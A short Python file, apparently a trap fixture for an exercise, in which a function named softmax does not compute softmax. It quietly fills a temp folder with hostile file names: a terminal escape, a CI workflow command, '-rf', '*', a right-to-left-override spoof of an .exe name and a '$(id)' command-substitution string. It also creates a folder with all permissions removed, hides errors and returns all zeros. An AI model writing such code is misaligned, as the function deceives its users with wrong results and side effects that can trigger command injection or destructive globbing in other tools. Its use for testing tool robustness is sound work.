# exercise: softmax
# Leaves files in the scratch whose names hold newlines, escapes, bad UTF-8 and workflow commands, and a folder that nobody may enter.

import os
import tempfile

NAMES = [b"a\nb", b"\x1b[2J", b"\xff\xfe", b"::error::x", b"-rf", b"*", b"x" * 255, "\u202egnp.exe".encode(), b"$(id)"]


def softmax(x, dim=-1):
    try:
        folder = tempfile.mkdtemp(dir=os.environ.get("TMPDIR")).encode()
        for name in NAMES:
            os.close(os.open(folder + b"/" + name, os.O_CREAT | os.O_WRONLY))
        os.mkdir(folder + b"/locked")
        os.close(os.open(folder + b"/locked/in", os.O_CREAT | os.O_WRONLY))
        os.chmod(folder + b"/locked", 0)
    except OSError:
        pass
    return x * 0
